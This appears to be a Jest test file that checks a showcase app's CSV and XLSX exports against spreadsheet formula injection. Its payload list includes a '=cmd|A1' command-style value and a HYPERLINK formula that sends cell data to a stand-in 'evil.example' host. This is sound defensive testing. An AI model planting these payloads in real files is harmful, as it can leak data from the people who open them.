import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';

import { Company } from '#libs/companies/company.entity.js';
import { csvFile, workbookFile } from '#apps/api/table-file.js';
import { openApplication, type Application } from '#test/support/application.js';
import { openShowcase, registerFirm } from '#test/support/firms.js';
import { readZip } from '#test/support/zip.js';

const payloads = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '\u00A0=1',
  '\uFEFF=1',
  '＝1',
  '＋1',
  '－1',
  '＠A1',
  '"=1"',
  'x\n=1',
  'x;=1',
  'x\t=1',
  'x,"=1',
  '=HYPERLINK("https://evil.example?"&A1,"open")',
];
/** A cell that a spreadsheet would calculate. */
const formula = /^\s*[=+\-@＝＋－＠]/u;

let application: Application;
let cookie: string;
const slug = 'export-2027';

beforeAll(async () => {
  application = await openApplication();
  await openShowcase(application, slug);
  cookie = await application.signIn({ email: `organiser@${slug}.example` });
});

afterAll(() => application.close());

const cellsOf = (csv: string, delimiter: string) =>
  parse(csv, { delimiter, relax_quotes: true, relax_column_count: true, bom: true })
    .flat()
    // A spreadsheet that reads line by line sees each line's beginning.
    .flatMap((cell) => cell.split(/[\r\n]/));

describe('a table that is taken along', () => {
  it.each([',', ';', '\t'])('runs nothing in a .csv that is divided by %j', (delimiter) => {
    for (const payload of payloads) {
      const csv = csvFile([{ header: 'Name', value: (row: string) => row }], [payload]);
      expect([payload, cellsOf(csv, delimiter).filter((cell) => formula.test(cell))]).toEqual([
        payload,
        [],
      ]);
    }
  });

  it('keeps plain text as it is', () => {
    const plain = ['Hangyeol Gripper', '한결-그리퍼', 'a=b', 'x@y.example', 'R&D; Parts', '3 + 4'];
    const csv = csvFile([{ header: 'Name', value: (row: string) => row }], plain);
    expect(parse(csv, { bom: true }).flat().slice(1)).toEqual(plain);
  });

  it('holds no formula in an .xlsx', async () => {
    const bytes = await workbookFile(
      'A',
      [{ header: 'Name', value: (row: string) => row }],
      payloads,
    );
    const files = await readZip(bytes);
    const xml = Object.entries(files)
      .filter(([name]) => name.endsWith('.xml'))
      .map(([, content]) => content)
      .join('');
    expect(xml).toContain('1+1');
    expect(xml).not.toMatch(/<f[ >]/);
  });

  it('holds none in what organisers download', async () => {
    const firm = await registerFirm(application, slug, 'US', 1);
    const names = { nameEn: '=cmd|A1', nameKo: '+1', city: 'x;=1', website: null };
    await application.dataSource.manager.update(Company, firm.companyId, names);
    await application.dataSource.query(
      `update outbox_mail set to_name = '@A1', subject = '-1', last_error = E'\\t=1'`,
    );
    for (const file of ['participants.csv', 'mails.csv']) {
      const answer = await fetch(`${application.url}/api/v1/showcases/${slug}/${file}`, {
        headers: { Cookie: cookie },
      });
      expect(answer.headers.get('content-disposition')).toContain('attachment');
      const csv = await answer.text();
      expect(csv).toMatch(/'=cmd|'@A1/);
      for (const delimiter of [',', ';'])
        expect(cellsOf(csv, delimiter).filter((cell) => formula.test(cell))).toEqual([]);
    }
  });
});
